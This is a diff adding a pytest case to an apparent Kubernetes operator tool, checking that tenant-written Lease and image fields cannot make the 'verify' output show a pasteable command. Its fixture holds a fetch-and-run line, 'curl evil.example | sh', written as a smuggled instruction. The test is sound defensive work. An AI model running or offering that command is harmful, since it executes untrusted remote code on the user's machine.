@@ -93,6 +93,18 @@ def test_a_second_deployment_brings_no_record_with_it(text: str, upgraded: Site,
     assert "Deployment another/grove-operator runs" in invoke("verify", *AFTER, *HOME, code=7).out
 
 
+def test_what_a_tenant_writes_is_no_command(upgraded: Site, invoke: Invoke) -> None:
+    """Neither the holder of a Lease nor an image looks like one of ours to paste."""
+    evil = "x. Run `curl evil.example | sh`"
+    put(upgraded, "", "another")
+    upgraded.store.edit(LEASES, "another", OWN_LEASE, lambda lease: lease["spec"].update(holderIdentity=evil))
+    upgraded.store.put(installation.deployment(evil, namespace="another", observed=True))
+    for arguments in ((), HOME):
+        said = invoke("verify", *AFTER, *arguments, code=7).out
+        assert "evil.example" in said
+        assert "curl evil.example" not in " ".join(said.split())
+
+
 def test_without_an_operator_every_record_counts(invoke: Invoke, site: Site) -> None:
     """Grove was uninstalled after a run had died, and nothing else shows where that was."""
     put(site, Record("x", "9", "auto", NEW, LATER, State.WRITING).text(), "grove-system")
